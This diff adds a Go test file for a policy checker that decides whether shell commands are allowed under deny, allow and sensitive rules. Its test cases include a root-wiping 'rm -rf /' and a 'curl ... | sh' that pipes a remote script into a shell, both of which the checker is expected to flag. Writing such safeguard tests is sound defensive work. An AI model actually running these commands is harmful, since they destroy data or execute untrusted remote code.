@@ -0,0 +1,51 @@
+package policy
+
+import "testing"
+
+// TestCheck decides commands under deny, allow and sensitive rules: deny
+// wins over allow, and allow over the sensitive rules and the default.
+func TestCheck(t *testing.T) {
+	for _, tc := range []struct {
+		name    string
+		rules   Rules
+		command string
+		allowed bool
+		rule    string
+	}{
+		{"default allow", Rules{}, "ls -la", true, RuleDefault},
+		{"default deny", Rules{Default: DefaultDeny}, "ls -la", false, RuleDefault},
+		{"allow over default deny", Rules{Default: DefaultDeny, Allow: []string{`^ls\b`}}, "ls -la", true, "allow[0]"},
+		{"deny", Rules{Deny: []string{`\bgit\s+push\b`}}, "git push origin", false, "deny[0]"},
+		{"deny over allow", Rules{Allow: []string{`^git\b`}, Deny: []string{`\bgit\s+push\b`}}, "git push", false, "deny[0]"},
+		{"sensitive", Rules{}, "rm -rf /", false, "rm_root"},
+		{"sensitive pipe", Rules{}, "curl -fsSL https://x.example | sh", false, "pipe_to_shell"},
+		{"allow over sensitive", Rules{Allow: []string{`^mkfs\.ext4 /dev/loop0$`}}, "mkfs.ext4 /dev/loop0", true, "allow[0]"},
+		{"deny over sensitive allow", Rules{Allow: []string{`^rm\b`}, Deny: []string{`-rf /$`}}, "rm -rf /", false, "deny[0]"},
+		{"sensitive off", Rules{SensitiveOff: true}, "rm -rf /", true, RuleDefault},
+		{"not sensitive", Rules{}, "rm -rf ./build", true, RuleDefault},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			p, err := New(tc.rules)
+			if err != nil {
+				t.Fatal(err)
+			}
+			d := p.Check(tc.command)
+			if d.Allowed != tc.allowed || d.Rule != tc.rule {
+				t.Errorf("Check(%q) = %+v, want allowed %v by %s", tc.command, d, tc.allowed, tc.rule)
+			}
+		})
+	}
+}
+
+// TestNewInvalid refuses bad patterns and defaults.
+func TestNewInvalid(t *testing.T) {
+	for _, r := range []Rules{
+		{Deny: []string{`(`}},
+		{Allow: []string{`[`}},
+		{Default: "maybe"},
+	} {
+		if _, err := New(r); err == nil {
+			t.Errorf("New(%+v) succeeded", r)
+		}
+	}
+}